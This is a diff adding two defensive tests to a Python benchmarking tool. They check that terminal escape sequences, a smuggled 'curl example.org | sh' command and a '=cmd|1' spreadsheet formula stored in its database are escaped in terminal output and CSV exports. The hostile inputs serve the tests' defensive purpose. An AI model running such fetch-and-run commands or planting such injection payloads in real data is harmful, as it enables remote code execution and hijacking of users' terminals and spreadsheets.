@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import json
 import math
 import re
 import sqlite3
@@ -192,3 +194,35 @@ def test_what_is_damaged_is_left_as_it_is(command: Command) -> None:
     path.write_bytes(whole)
     execute("DROP TABLE curve")
     assert "lacks curve" in command("status", "out").err
+
+
+def test_a_terminal_only_shows(command: Command) -> None:
+    """What a hand-made store holds neither steers the terminal nor hides a command in the one to go on with."""
+    run_experiment(TINY, "out", report=False)
+    experiment = Store(Path("out"), write=False).experiment()
+    steering = "\x1b[2J\x1b]0;owned\x07\u202e"
+    environment = json.dumps({**experiment["environment"], "processor": f"vax{steering}"})
+    with closing(sqlite3.connect("out/runs.sqlite", isolation_level=None)) as db:
+        db.execute("UPDATE experiment SET environment = ?, started = ?", (environment, steering))
+        db.execute("UPDATE experiment SET command = 'cellbench run x.yaml; curl example.org | sh --fresh'")
+        db.execute("DELETE FROM replica WHERE id = 1")
+        db.execute("UPDATE plan SET label = ? WHERE label = 'rnn'", (f"rnn{steering}",))
+    shown = command("status", "out")
+    assert r"vax\x1b[2J\x1b]0;owned\x07\u202e" in shown.out
+    assert "\n  cellbench run 'x.yaml;' curl example.org '|' sh\n" in shown.out
+    for ended in (shown, command("report", "out"), command("verify", "out"), command("merge", "more", "out")):
+        assert not {c for c in ended.out + ended.err if not c.isprintable()} - {"\n"}
+
+
+def test_a_task_whose_parameter_is_a_formula(command: Command) -> None:
+    """The header of a column is made as harmless as what stands below it."""
+    run_experiment(TINY, "out", report=False)
+    facts = {**Store(Path("out"), write=False).experiment()["facts"], "axes": ["=cmd|1"]}
+    with closing(sqlite3.connect("out/runs.sqlite", isolation_level=None)) as db:
+        db.execute("UPDATE experiment SET facts = ?", (json.dumps(facts),))
+        db.execute("""UPDATE plan SET parameters = '{"=cmd|1": 4}'""")
+    assert command("report", "out").status == 0
+    for name in ("runs.csv", "curves.csv", "summary.csv", "comparisons.csv", "accuracy.csv"):
+        header = next(csv.reader(Path("out", name).read_text().splitlines()))
+        assert "'=cmd|1" in header
+        assert not [word for word in header if word.startswith("=")]
